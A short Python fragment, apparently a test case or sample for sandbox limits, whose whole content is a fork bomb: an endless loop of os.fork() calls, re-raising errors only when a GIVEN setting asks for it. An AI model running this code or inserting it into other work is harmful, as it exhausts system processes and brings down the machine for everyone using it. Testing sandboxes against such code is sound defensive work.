"""Forks without end."""
while True:
    try:
        os.fork()
    except OSError:
        if GIVEN["raise"]:
            raise
